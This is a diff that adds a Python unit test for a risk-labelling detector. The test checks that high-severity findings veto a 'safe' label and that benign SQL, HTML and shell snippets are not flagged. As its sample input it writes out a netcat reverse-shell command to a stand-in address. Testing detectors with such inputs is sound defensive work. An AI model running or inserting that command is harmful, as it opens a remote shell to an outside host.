@@ -257,3 +257,17 @@ def test_fwyy_rules_detector_row_is_the_static_checks_alone() -> None:
     )
     assert [v.risky for v in verdicts] == [True, False, True, True]
     assert verdicts[1].detail == "nothing matched" and "bash:" in verdicts[3].detail
+
+
+def test_only_high_and_critical_rules_veto_and_only_a_safe_label() -> None:
+    from fwyy_ollama.findings import VETO, veto_finding, vetoed
+
+    shell = veto_finding("nc -e /bin/sh 198.51.100.4 9001")
+    assert shell is not None and shell.label.severity >= VETO.severity
+    assert vetoed(Label.SAFE, shell) is shell.label
+    for risky in (Label.LOW, Label.MEDIUM, Label.HIGH):
+        assert vetoed(risky, shell) is risky
+    assert vetoed(Label.SAFE, None) is Label.SAFE
+    # Rules below VETO match benign code too: they are no veto.
+    for text in ("SELECT name FROM users WHERE id = '7'", "<b>bold</b>", "ls -la", "print('hi')"):
+        assert veto_finding(text) is None, text
